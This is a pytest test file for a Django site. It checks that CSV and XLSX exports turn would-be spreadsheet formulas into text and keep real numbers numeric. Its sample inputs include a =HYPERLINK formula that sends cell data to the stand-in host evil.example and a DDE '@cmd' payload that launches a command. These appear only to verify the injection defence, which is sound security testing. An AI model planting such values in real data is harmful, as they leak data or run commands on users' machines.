"""Every CSV and XLSX the site writes keeps would-be formulas as text (OWASP CSV injection),
and real numbers as numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from base.spreadsheets import spreadsheet_cell
from egm.choices import MeetingStatus
from portal.workprogramme.services import pilot_support_record, public_release_consent_record
from roadmaps.choices import VersionStatus
from tests.factories import (
    MeetingFactory,
    OrganisationFactory,
    ParticipantFactory,
    PilotFactory,
    RoadmapFactory,
    RoadmapVersionFactory,
    country,
    finalised_assessment,
)

pytestmark = pytest.mark.django_db

HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?d="&A2,"Open")'
PHONE = "+1-555-0103"


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1-555-0103", "'+1-555-0103"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ghana roadmap", "Ghana roadmap"),
        ("a=b", "a=b"),
        ("", ""),
        # Numbers stay numbers, as numbers and as the texts the API writes for decimals.
        (-3, -3),
        (2.5, 2.5),
        ("-3", "-3"),
        ("2.60", "2.60"),
        ("+7", "+7"),
        (None, None),
    ],
)
def test_the_cell_rule(value, expected):
    assert spreadsheet_cell(value) == expected


def test_an_api_csv_export_keeps_a_formula_title_as_text(staff_client, ghana):
    RoadmapFactory(country=ghana, title=HOSTILE_TITLE)
    response = staff_client.get("/api/v1/roadmaps/export/?format=csv")
    assert response.status_code == 200
    rows = _csv(b"".join(response.streaming_content))
    column = rows[0].index("title")
    assert rows[1][column] == f"'{HOSTILE_TITLE}"


def test_an_api_csv_export_keeps_phone_numbers_as_text(staff_client):
    meeting = MeetingFactory()
    ParticipantFactory(meeting=meeting, full_name="Ama Mensah", phone=PHONE)
    response = staff_client.get(
        f"/api/v1/meeting-participants/export/?format=csv&meeting={meeting.pk}"
    )
    assert response.status_code == 200
    rows = _csv(b"".join(response.streaming_content))
    column = rows[0].index("phone")
    assert rows[1][column] == f"'{PHONE}"


def test_the_anonymous_roadmaps_csv_keeps_a_formula_title_as_text(secretariat_user, ghana):
    roadmap = RoadmapFactory(country=ghana, title=HOSTILE_TITLE)
    version = RoadmapVersionFactory(roadmap=roadmap, status=VersionStatus.PUBLISHED)
    finalised_assessment(version, dict.fromkeys(range(1, 11), 3))
    public_release_consent_record(
        actor=secretariat_user,
        version=version,
        given_by="Ministry",
        given_on=dt.date(2025, 1, 1),
        evidence="Letter",
    )
    response = Client().get(reverse("public:download", args=["roadmaps", "csv"]))
    assert response.status_code == 200
    rows = _csv(response.content)
    assert rows[0][0] == "roadmap"
    assert rows[1][0] == f"'{HOSTILE_TITLE}"
    # Scores stay numbers a spreadsheet can sum.
    assert rows[1][rows[0].index("criterion_1")] == "3.00"


def test_the_public_meetings_csv_keeps_a_formula_title_as_text(reference_data):
    MeetingFactory(title="@cmd|' /C calc'!A0", status=MeetingStatus.HELD, is_public=True)
    response = Client().get(reverse("public:download", args=["meetings", "csv"]))
    rows = _csv(response.content)
    assert rows[1][0] == "'@cmd|' /C calc'!A0"


def _landscape_data(actor):
    pilot = PilotFactory(country=country("GHA"))
    organisation = OrganisationFactory(name="=1+2", acronym="=1+2")
    pilot_support_record(
        actor=actor, pilot=pilot, organisation=organisation, role="supporter", steps=[2], goals=[9]
    )
    return organisation


def test_the_landscape_xlsx_keeps_a_formula_name_as_text(staff_client, secretariat_user, ghana):
    _landscape_data(secretariat_user)
    response = staff_client.get("/work-programme/landscape/export/?format=xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cell = book["support"].cell(2, 1)
    assert cell.data_type == "s"
    assert cell.value == "'=1+2"
    flags = book["gaps and overlaps"]
    for row in flags.iter_rows(min_row=2):
        assert all(c.data_type != "f" for c in row)


def test_the_landscape_csv_keeps_a_formula_name_as_text(staff_client, secretariat_user, ghana):
    _landscape_data(secretariat_user)
    response = staff_client.get("/work-programme/landscape/export/?format=csv")
    rows = _csv(response.content)
    assert rows[1][0] == "'=1+2"


def test_the_heatmap_exports_keep_a_formula_title_as_text(staff_client, secretariat_user, ghana):
    PilotFactory(country=ghana)
    roadmap = RoadmapFactory(country=ghana)
    version = RoadmapVersionFactory(roadmap=roadmap, status=VersionStatus.RETURNED)
    finalised_assessment(version, dict.fromkeys(range(1, 11), 2))
    type(ghana).objects.filter(pk=ghana.pk).update(name="-1+1")
    rows = _csv(staff_client.get(reverse("roadmaps:assessment-heatmap-csv")).content)
    assert rows[1][0] == "'-1+1"
    assert rows[1][6] == "2.00"
    sheet = load_workbook(
        io.BytesIO(staff_client.get(reverse("roadmaps:assessment-heatmap-xlsx")).content)
    ).active
    assert sheet.cell(2, 1).value == "'-1+1"
    assert sheet.cell(2, 1).data_type == "s"
    assert sheet.cell(2, 7).value == 2
